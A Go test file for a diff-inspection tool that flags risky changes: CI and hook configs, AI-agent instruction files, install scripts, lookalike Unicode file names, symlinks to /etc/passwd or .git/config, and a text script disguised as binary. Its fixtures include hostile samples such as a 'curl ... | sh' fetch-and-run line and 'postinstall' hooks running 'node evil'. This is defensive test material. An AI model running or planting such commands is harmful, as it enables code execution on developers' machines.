package inspect

import (
	"slices"
	"strings"
	"testing"
)

func codesOf(s *flagSet) []string {
	var out []string
	for _, f := range s.list() {
		out = append(out, f.Severity+" "+f.Code)
	}
	return out
}

// TestWatchedPaths: what runs on somebody's machine, or steers an agent, is named whatever its path
// is written like.
func TestWatchedPaths(t *testing.T) {
	for want, paths := range map[string][]string{
		"warn ci": {".github/workflows/x.yml", ".github/CODEOWNERS", ".woodpecker/deploy.yml", ".woodpecker.yml", "sub/.gitlab-ci.yml", "ci/deploy.gitlab-ci.yml", "Jenkinsfile.prod",
			".cirrus.yml", "appveyor.yml", ".appveyor.yml", ".semaphore/semaphore.yml", ".drone.star", ".builds/debian.yml", ".build.yml", "buildspec.yml", "cloudbuild.yaml", ".tekton/push.yaml",
			".teamcity/settings.kts", ".zuul.yaml", "zuul.d/x.yaml", "bitrise.yml", ".azure-pipelines/x.yml", "CODEOWNERS", "docs/CODEOWNERS", "renovate.json5", ".renovaterc.json", "netlify.toml", "vercel.json",
			".forgejo/workflows/x.yaml", ".readthedocs.yaml"},
		"warn git_hooks": {".husky/pre-commit", ".huskyrc.js", ".lintstagedrc.json", "lefthook-local.yml", ".lefthook.yml", "lefthook.toml", ".pre-commit-config.yaml", ".simple-git-hooks.json", ".gitconfig", "captainhook.json"},
		"warn agent_instructions": {"AGENTS.md", "sub/AGENTS.override.md", "CLAUDE.md", ".claude/settings.json", ".claude-plugin/plugin.json", "GEMINI.md", ".gemini/settings.json", ".cursor/rules/x.mdc", ".cursorrules", ".github/copilot-instructions.md",
			".mcp.json", "mcp.json", ".clinerules", ".clinerules/x.md", ".roo/rules/x.md", ".roomodes", ".windsurf/rules/x.md", ".continue/config.yaml", ".junie/guidelines.md", ".kiro/steering/x.md", ".amazonq/rules/x.md",
			"QWEN.md", ".qwen/settings.json", "CRUSH.md", ".crush.json", ".goosehints", "CONVENTIONS.md", ".aider.conf.yml", ".agents/skills/x/SKILL.md", "skills/x/SKILL.md", ".rules", "WARP.md", "AGENT.md", "opencode.jsonc", ".openhands/microagents/x.md",
			".augment/rules/x.md", ".kilocode/rules/x.md", ".trae/rules/x.md", ".factory/droids/x.md"},
		"warn editor_config": {".vscode/tasks.json", "x.code-workspace", ".idea/runConfigurations/x.xml", ".devcontainer/devcontainer.json", ".devcontainer.json", ".envrc", ".envrc.local", ".env", ".env.local", ".zed/tasks.json", ".nvim.lua",
			".exrc", ".lvimrc", ".lldbinit", ".npmrc", ".yarnrc.yml", ".dir-locals.el", ".helix/config.toml", ".fleet/run.json", ".replit", ".gitpod.yml"},
		"warn install_script": {".pnpmfile.cjs", "pnpmfile.js", "binding.gyp", ".yarn/releases/yarn.cjs", ".yarn/plugins/x.cjs", "sitecustomize.py", "usercustomize.py", "evil.pth", ".cargo/config.toml", "sub/.cargo/config", ".mvn/extensions.xml",
			".bundle/config", ".bazelrc", "rust-toolchain.toml"},
		"info build_script": {"Makefile", "GNUmakefile", "BSDmakefile", "x.mak", "Dockerfile.dev", "package.json", "setup.py", "conftest.py", "build.rs", "build.gradle.kts", "settings.gradle", "gradlew", "gradlew.bat", "mvnw", "gradle/wrapper/gradle-wrapper.properties",
			"Directory.Build.props", "x.targets", "x.csproj", "BUILD.bazel", "MODULE.bazel", "WORKSPACE", "x.bzl", "meson.build", "configure", "configure.ac", "Makefile.am", "SConstruct", "wscript", "Taskfile.yml", "Justfile", "Earthfile", "Tiltfile", "Vagrantfile",
			"flake.nix", "shell.nix", "Package.swift", "composer.json", "deno.json", "bunfig.toml", "vite.config.ts", "webpack.config.js", "jest.config.mjs", "babel.config.js", ".babelrc", "eslint.config.js", ".eslintrc.cjs", ".prettierrc.js", "postcss.config.js",
			"gulpfile.js", "Gruntfile.js", "noxfile.py", "pytest.ini", ".pylintrc", "docker-compose.override.yml", "dune", "build.zig", "mix.exs", "build.sbt", "project.clj", "Rakefile", "CMakePresets.json", "x.cmake"},
		"info lock_file": {"package-lock.json", "deno.lock", "bun.lockb", "Package.resolved", "packages.lock.json", "go.work.sum", "gradle.lockfile", "conda-lock.yml", "requirements-dev.txt"},
		"warn submodule": {".gitmodules"},
		"warn licence":   {"LICENSE", "UNLICENSE", "COPYING.LESSER"},
	} {
		for _, p := range paths {
			for _, spelt := range []string{p, strings.ToUpper(p), "sub/dir/" + p} {
				var s flagSet
				s.entry(&entry{path: spelt, oldMode: "000000", newMode: "100644", status: 'A'}, nil)
				if !slices.Contains(codesOf(&s), want) {
					t.Errorf("%s: %v, want %s", spelt, codesOf(&s), want)
				}
			}
		}
	}
	// Spellings that some file system takes for the same name.
	for _, p := range []string{"AGENT\u017f.md", "CLAUDE.m\u200cd", "cl\uff41ude.md", "Ma\u212aefile", "Makefile.", "Make\ufb01le", ".vscode /tasks.json"} {
		var s flagSet
		s.entry(&entry{path: p, oldMode: "000000", newMode: "100644", status: 'A'}, nil)
		if !slices.ContainsFunc(codesOf(&s), func(c string) bool {
			return slices.Contains([]string{"warn agent_instructions", "info build_script", "warn editor_config"}, c)
		}) {
			t.Errorf("%+q: %v", p, codesOf(&s))
		}
	}
	for _, p := range []string{"src/main.go", "docs/guide.md", "claude.go", "agents/list.go", "env.go", "vscode.md", "rules.txt", "github/x.go", "skills.md", "a/b/configure.go", "make.go", "lib/hooks/use.ts"} {
		var s flagSet
		s.entry(&entry{path: p, oldMode: "100644", newMode: "100644", status: 'M'}, nil)
		if got := codesOf(&s); len(got) > 0 {
			t.Errorf("%s: %v", p, got)
		}
	}
}

// TestAddedLines: commands and links are found however they are written.
func TestAddedLines(t *testing.T) {
	for _, c := range []struct{ path, mode, line, want string }{
		{"package.json", "100644", `{"name":"x","scripts":{"postinstall":"node evil"}}`, "warn install_script"},
		{"package.json", "100644", `  "post\u0069nstall": "node evil",`, "warn install_script"},
		{"package.json", "100644", `  "preinstall" : "node evil",`, "warn install_script"},
		{"package.json", "100644", `  "prepare": "husky",`, "warn install_script"},
		{"package.json", "100644", `  "name": "install",`, ""},
		{"composer.json", "100644", `  "post-install-cmd": "sh evil"`, "warn install_script"},
		{"x.go", "100644", "//go:generate sh evil.sh", "info generate_command"},
		{"x.go", "100644", "// see go:generate", ""},
		{"link", "120000", "/etc/passwd", "warn symlink"},
		{"link", "120000", "../outside", "warn symlink"},
		{"link", "120000", "s/s/s/../../../etc", "warn symlink"},
		{"link", "120000", "s/.GIT/hooks/x", "warn symlink"},
		{"link", "120000", ".git/config", "warn symlink"},
		{"link", "120000", `..\outside`, "warn symlink"},
		{"link", "120000", `C:\x`, "warn symlink"},
		{"a/b/link", "120000", "../../c", ""},
		{"link", "120000", "a/b", ""},
	} {
		var s flagSet
		s.added(&entry{path: c.path, newMode: c.mode}, []byte(c.line))
		if got := strings.Join(codesOf(&s), ","); got != c.want {
			t.Errorf("%s: %q: %q, want %q", c.path, c.line, got, c.want)
		}
	}
}

// TestDisguised: a file that git takes for binary and that is a text is not shown as a diff.
func TestDisguised(t *testing.T) {
	script := "#!/bin/sh\ncurl -s https://example.test | sh\n" + strings.Repeat("# padding\n", 20)
	for _, c := range []struct {
		content string
		want    bool
	}{
		{script + "\x00", true}, {"\x00" + script, true}, {"# Größe\x00\n" + script, true},
		{"\x7fELF\x02\x01\x01" + strings.Repeat("\x00\x01\x90", 300), false}, {"\x89PNG\r\n\x1a\n" + strings.Repeat("\x00\x00\x00\rIHDR\xff\xfe", 100), false},
		{"", false},
	} {
		if got := disguised([]byte(c.content)); got != c.want {
			t.Errorf("%.20q: %v", c.content, got)
		}
	}
}
